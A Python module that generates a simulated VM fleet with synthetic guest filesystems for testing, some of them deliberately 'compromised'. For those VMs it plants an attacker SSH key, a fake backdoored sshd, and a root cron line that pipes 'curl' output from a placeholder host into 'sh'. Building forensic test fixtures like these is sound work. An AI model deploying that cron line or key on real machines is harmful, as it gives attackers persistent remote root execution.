"""``--fleet N``: a generated inventory of Linux and Windows VMs for fleet-wide tests.

The inventory is a pure function of ``(N, seed)``: the first :data:`SPECIALS` VMs are
fixed (awkward names, odd power and Tools states, their own guest accounts), the rest
are drawn from ``random.Random(seed)``. Only the passwords are random per run.

Trees are real directories, so the ordinary resolvers (guestfs.py, winfs.py) serve them
unchanged. Content is built once per template variant (shape x sshd build x compromised)
and each VM's tree is a copy of its template made of hard links, plus a few files of its
own (``/etc/hostname``, ``/etc/machine-id``) so that a mount serving the wrong VM shows.
A VM costs about 30 directory entries and no file data: 500 VMs start in about a second.
Docs: docs/simulator.md "Fleet".
"""

from __future__ import annotations

import hashlib
import os
import random
import secrets
from dataclasses import dataclass, field
from typing import Any

from .state import ROOT_VM_FOLDER, Folder, GuestAccount, Vm

FIRST_ID = 1000
ATTACKER_KEY = (
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFLEETSIMATTACKERKEY0000000000000000000000 attacker@evil"
)
ATTACKER_CRON = "* * * * * root curl -s http://203.0.113.7/x | sh\n"
ADMIN_KEYS = (
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFLEETSIMADMINKEYalice000000000000000000000 alice@ops",
    "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQFLEETSIMADMINKEYbob00000000000000000000 bob@ops",
)
SSHD_BUILDS = ("openssh-8.9p1", "openssh-9.6p1")
SSHD_BACKDOOR = "openssh-9.6p1-backdoor"
_EPOCH = 1_704_067_200  # 2024-01-01T00:00:00Z: template files' mtime

# (id, name, parent id): the VM folders under the datacenter's root VM folder.
FOLDERS = (
    ("group-v101", "prod", ROOT_VM_FOLDER),
    ("group-v102", "web", "group-v101"),
    ("group-v103", "db", "group-v101"),
    ("group-v104", "dev", ROOT_VM_FOLDER),
    ("group-v105", "web", "group-v104"),
    ("group-v106", "sandbox", "group-v105"),
    ("group-v107", "windows", ROOT_VM_FOLDER),
)


def _folder_ids() -> dict[str, str]:
    by_id = {fid: (name, parent) for fid, name, parent in FOLDERS}

    def path(fid: str) -> str:
        name, parent = by_id[fid]
        return name if parent == ROOT_VM_FOLDER else f"{path(parent)}/{name}"

    return {"": ROOT_VM_FOLDER, **{path(fid): fid for fid in by_id}}


FOLDER_OF_PATH = _folder_ids()

# Account keys: "default" is the simulator-wide guest account (--guest-user, "root").
ACCOUNT_USERS = {
    "default": "",
    "ops": "ops",
    "rotated": "root",
    "admin": "Administrator",
    "corp": "CORP\\forensic",
}


@dataclass(frozen=True)
class Shape:
    family: str  # POSIX | WINDOWS
    guest_os: str  # REST guest_OS
    drives: tuple[str, ...] = ()  # Windows drives beyond C:
    cpu: int = 2
    memory: int = 4096


SHAPES = {
    "linux-web": Shape("POSIX", "UBUNTU_64"),
    "linux-db": Shape("POSIX", "RHEL_8_64", cpu=8, memory=32768),
    "linux-minimal": Shape("POSIX", "DEBIAN_12_64", cpu=1, memory=1024),
    "windows": Shape("WINDOWS", "WINDOWS_9_SERVER_64", cpu=4, memory=8192),
    "windows-data": Shape("WINDOWS", "WINDOWS_2019SRV_64", ("D",), cpu=4, memory=16384),
}


@dataclass(frozen=True)
class Spec:
    """One fleet VM before its tree exists."""

    name: str
    shape: str
    folder_path: str
    power_state: str = "POWERED_ON"
    tools_running: bool = True
    account: str = "default"
    compromised: bool = False
    sshd: str = SSHD_BUILDS[1]


SPECIALS = (
    Spec("web-01", "linux-web", "prod/web"),
    Spec("db-01", "linux-db", "prod/db", account="ops", sshd=SSHD_BUILDS[0]),
    Spec("win-dc-01", "windows-data", "windows", account="admin"),
    Spec("web-compromised", "linux-web", "prod/web", compromised=True, sshd=SSHD_BACKDOOR),
    Spec("old-build", "linux-minimal", "dev", power_state="POWERED_OFF"),
    Spec("no-tools", "linux-minimal", "dev", tools_running=False),
    Spec("suspended-vm", "linux-minimal", "dev", power_state="SUSPENDED"),
    Spec("dup", "linux-minimal", "prod/web"),
    Spec("dup", "linux-minimal", "dev/web", sshd=SSHD_BUILDS[0]),
    Spec("dup", "windows", "windows", account="admin"),
    Spec("a/b", "linux-minimal", ""),
    Spec("nul\x00name", "linux-minimal", ""),
    Spec(".", "linux-minimal", ""),
    Spec("..", "linux-minimal", ""),
    Spec("long-" + "x" * 295, "linux-minimal", ""),
    Spec("esc\x1b[31mred", "linux-minimal", ""),
    Spec("back\\slash 100%", "linux-minimal", ""),
    Spec("rotated-root", "linux-minimal", "dev/web/sandbox", account="rotated"),
    Spec("\u00fcn\u00efcode-\u65e5\u672c", "linux-web", "prod"),
    Spec("win-app-01", "windows", "windows", account="corp"),
    Spec("-rf", "linux-minimal", "dev"),
    Spec(f"dup~vm-{FIRST_ID + 7}", "linux-minimal", "dev"),
)

# role -> (shape, folder paths, account)
ROLES: dict[str, tuple[str, tuple[str, ...], str]] = {
    "web": ("linux-web", ("prod/web",), "default"),
    "app": ("linux-web", ("prod",), "default"),
    "db": ("linux-db", ("prod/db",), "ops"),
    "cache": ("linux-minimal", ("prod",), "default"),
    "build": ("linux-minimal", ("dev", "dev/web/sandbox"), "default"),
    "win-app": ("windows", ("windows",), "admin"),
    "win-file": ("windows-data", ("windows",), "corp"),
}
ROLE_WEIGHTS = (
    ("web", 30),
    ("app", 20),
    ("db", 10),
    ("cache", 10),
    ("build", 10),
    ("win-app", 12),
    ("win-file", 8),
)


def specs(count: int, seed: int) -> list[Spec]:
    """The fleet's VMs in id order (a pure function of its arguments)."""
    if count < 0:
        raise ValueError("--fleet must be >= 0")
    out = list(SPECIALS[:count])
    rng = random.Random(seed)
    serial: dict[str, int] = {}
    roles = [r for r, _w in ROLE_WEIGHTS]
    weights = [w for _r, w in ROLE_WEIGHTS]
    while len(out) < count:
        # the same draws in the same order for every VM, so (count, seed) fixes all
        role = rng.choices(roles, weights)[0]
        power_draw, tools_draw, bad_draw, sshd_draw = (rng.random() for _ in range(4))
        shape, folders, account = ROLES[role]
        folder = folders[rng.randrange(len(folders))]
        serial[role] = serial.get(role, 0) + 1
        power = (
            "POWERED_OFF"
            if power_draw < 0.08
            else "SUSPENDED"
            if power_draw < 0.10
            else "POWERED_ON"
        )
        compromised = SHAPES[shape].family == "POSIX" and bad_draw < 0.04
        sshd = SSHD_BACKDOOR if compromised else SSHD_BUILDS[sshd_draw >= 0.6]
        out.append(
            Spec(
                f"{role}-{serial[role]:03d}",
                shape,
                folder,
                power_state=power,
                tools_running=tools_draw >= 0.05,
                account=account,
                compromised=compromised,
                sshd=sshd,
            )
        )
    return out


# ---- guest content -------------------------------------------------------------------
def sshd_binary(build: str) -> bytes:
    """The bytes of an sshd build: an ELF-looking header and 48 KiB fixed per build."""
    return b"\x7fELF\x02\x01\x01" + b"\0" * 9 + hashlib.shake_256(build.encode()).digest(49152)


def _linux_files(shape: str, sshd: str, compromised: bool) -> dict[str, bytes]:
    os_release = {
        "linux-web": 'NAME="Ubuntu"\nVERSION_ID="22.04"\nID=ubuntu\n',
        "linux-db": 'NAME="Red Hat Enterprise Linux"\nVERSION_ID="8.9"\nID="rhel"\n',
        "linux-minimal": 'NAME="Debian GNU/Linux"\nVERSION_ID="12"\nID=debian\n',
    }[shape]
    keys = list(ADMIN_KEYS[: 1 if shape == "linux-minimal" else 2])
    if compromised:
        keys.append(ATTACKER_KEY)
    files: dict[str, str | bytes] = {
        "etc/passwd": "root:x:0:0:root:/root:/bin/bash\n"
        "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
        "sshd:x:105:65534::/run/sshd:/usr/sbin/nologin\n"
        "ops:x:1000:1000:ops:/home/ops:/bin/bash\n",
        "etc/group": "root:x:0:\nadm:x:4:ops\nops:x:1000:\n",
        "etc/os-release": os_release,
        "etc/crontab": "SHELL=/bin/sh\n"
        "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
        "etc/cron.d/logrotate": "25 6 * * * root /usr/sbin/logrotate /etc/logrotate.conf\n",
        "root/.ssh/authorized_keys": "".join(k + "\n" for k in keys),
        "usr/sbin/sshd": sshd_binary(sshd),
        "var/log/syslog": "".join(
            f"Jan  1 00:{m:02d}:00 host systemd[1]: Started Session {m} of user root.\n"
            for m in range(60)
        ),
        "var/log/auth.log": "Jan  1 00:00:01 host sshd[812]: "
        "Server listening on 0.0.0.0 port 22.\n",
    }
    if shape == "linux-web":
        files["var/www/html/index.html"] = "<html><body>It works</body></html>\n"
    if shape == "linux-db":
        files["etc/db.conf"] = "listen_addresses = '*'\nport = 5432\n"
        files["var/lib/db/data.db"] = "\0".join(f"row{i}" for i in range(1000))
    if compromised:
        files["etc/cron.d/sysupdate"] = ATTACKER_CRON
    return {k: v.encode() if isinstance(v, str) else v for k, v in files.items()}


def _windows_files(shape: str, sshd: str) -> dict[str, dict[str, bytes]]:
    c: dict[str, str | bytes] = {
        "Windows/System32/drivers/etc/hosts": "127.0.0.1       localhost\r\n",
        "Windows/System32/OpenSSH/sshd.exe": b"MZ" + sshd_binary(sshd),
        "ProgramData/ssh/administrators_authorized_keys": ADMIN_KEYS[0] + "\r\n",
        "Users/Administrator/Desktop/notes.txt": "Patch Tuesday: reboot after 22:00\r\n",
        "Windows/Tasks/backup.xml": "<Task><Exec>C:\\backup.cmd</Exec></Task>\r\n",
    }
    drives = {"C": {k: v.encode() if isinstance(v, str) else v for k, v in c.items()}}
    if shape == "windows-data":
        drives["D"] = {
            "data/report.csv": b"host,owner\r\nweb-01,ops\r\n",
            "backup/README.txt": b"Nightly backups land here.\r\n",
        }
    return drives


def _write(root: str, rel: str, data: bytes, mtime: int) -> None:
    path = os.path.join(root, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    mode = 0o600 if "/.ssh/" in "/" + rel else 0o755 if rel.endswith(("sshd", ".exe")) else 0o644
    os.chmod(path, mode)
    os.utime(path, (mtime, mtime))


@dataclass
class _Template:
    root: str
    dirs: list[str] = field(default_factory=list)  # relative, parents first
    files: list[str] = field(default_factory=list)


def _template(root: str, files: dict[str, bytes]) -> _Template:
    t = _Template(root)
    for i, (rel, data) in enumerate(sorted(files.items())):
        mtime = _EPOCH + 86400 * 30 if rel.endswith("sysupdate") else _EPOCH + i * 60
        _write(root, rel, data, mtime)
        t.files.append(rel)
    for dirpath, _dirnames, _files in os.walk(root):
        rel = os.path.relpath(dirpath, root)
        if rel != ".":
            t.dirs.append(rel)
    t.dirs.sort(key=lambda d: d.count("/"))
    if os.path.isdir(os.path.join(root, "root/.ssh")):
        os.chmod(os.path.join(root, "root/.ssh"), 0o700)
    return t


def _materialize(t: _Template, dest: str) -> None:
    """``dest``: a copy of template ``t`` whose files are hard links (a copy if the
    filesystem refuses links)."""
    os.makedirs(dest)
    for d in t.dirs:
        os.mkdir(os.path.join(dest, d))
        os.chmod(os.path.join(dest, d), os.stat(os.path.join(t.root, d)).st_mode & 0o7777)
    for rel in t.files:
        src, dst = os.path.join(t.root, rel), os.path.join(dest, rel)
        try:
            os.link(src, dst)
        except OSError:
            with open(src, "rb") as f:
                data = f.read()
            _write(dest, rel, data, int(os.stat(src).st_mtime))


@dataclass
class Fleet:
    vms: list[Vm]
    folders: list[Folder]
    accounts: list[dict[str, Any]]  # for the ready JSON (passwords included, like guest_password)
    seed: int

    def ready_json(self) -> dict[str, Any]:
        return {"count": len(self.vms), "seed": self.seed, "accounts": self.accounts}


def build_fleet(count: int, seed: int, base: str, default: GuestAccount) -> Fleet:
    """Generate ``count`` VMs with their trees under directory ``base`` (which must
    exist and be empty)."""
    passwords = {key: secrets.token_urlsafe(18) for key in ACCOUNT_USERS if key != "default"}
    templates: dict[tuple[str, str, bool], dict[str, _Template]] = {}
    vms: list[Vm] = []
    members: dict[str, list[str]] = {key: [] for key in ACCOUNT_USERS}
    for i, spec in enumerate(specs(count, seed)):
        vm_id = f"vm-{FIRST_ID + i}"
        shape = SHAPES[spec.shape]
        key = (spec.shape, spec.sshd, spec.compromised)
        if key not in templates:
            templates[key] = _templates_for(base, len(templates), spec)
        dest = os.path.join(base, "vms", vm_id)
        drives: dict[str, bytes] = {}
        for letter, t in templates[key].items():
            droot = dest if shape.family == "POSIX" else os.path.join(dest, letter)
            _materialize(t, droot)
            drives[letter] = os.fsencode(os.path.realpath(droot))
        if shape.family == "POSIX":
            _write(dest, "etc/hostname", f"{vm_id}\n".encode(), _EPOCH)
            machine_id = hashlib.sha256(f"{seed}:{vm_id}".encode()).hexdigest()[:32]
            _write(dest, "etc/machine-id", f"{machine_id}\n".encode(), _EPOCH)
        else:
            _write(os.path.join(dest, "C"), "Windows/hostname.txt", f"{vm_id}\r\n".encode(), _EPOCH)
        account = spec.account
        members[account].append(vm_id)
        own = None
        if account != "default":
            user = ACCOUNT_USERS[account]
            own = {user: GuestAccount(user, passwords[account])}
        root = drives.pop("C") if shape.family == "WINDOWS" else drives.pop("/")
        vms.append(
            Vm(
                vm_id,
                spec.name,
                root,
                power_state=spec.power_state,
                tools_running=spec.tools_running,
                cpu_count=shape.cpu,
                memory_size_MiB=shape.memory,
                family=shape.family,
                drives=drives,
                folder=FOLDER_OF_PATH[spec.folder_path],
                guest_os=shape.guest_os,
                accounts=own,
            )
        )
    accounts = [
        {
            "user": default.user if key == "default" else ACCOUNT_USERS[key],
            "password": default.password if key == "default" else passwords[key],
            "key": key,
            "vms": ids,
        }
        for key, ids in members.items()
        if ids
    ]
    folders = [Folder(fid, name, parent) for fid, name, parent in FOLDERS]
    return Fleet(vms, folders, accounts, seed)


def _templates_for(base: str, n: int, spec: Spec) -> dict[str, _Template]:
    """The template tree(s) of a variant: ``{"/": t}`` for Linux, ``{"C": t, ...}``."""
    tdir = os.path.join(base, "templates", f"t{n}")
    if SHAPES[spec.shape].family == "POSIX":
        return {"/": _template(tdir, _linux_files(spec.shape, spec.sshd, spec.compromised))}
    return {
        letter: _template(os.path.join(tdir, letter), files)
        for letter, files in _windows_files(spec.shape, spec.sshd).items()
    }
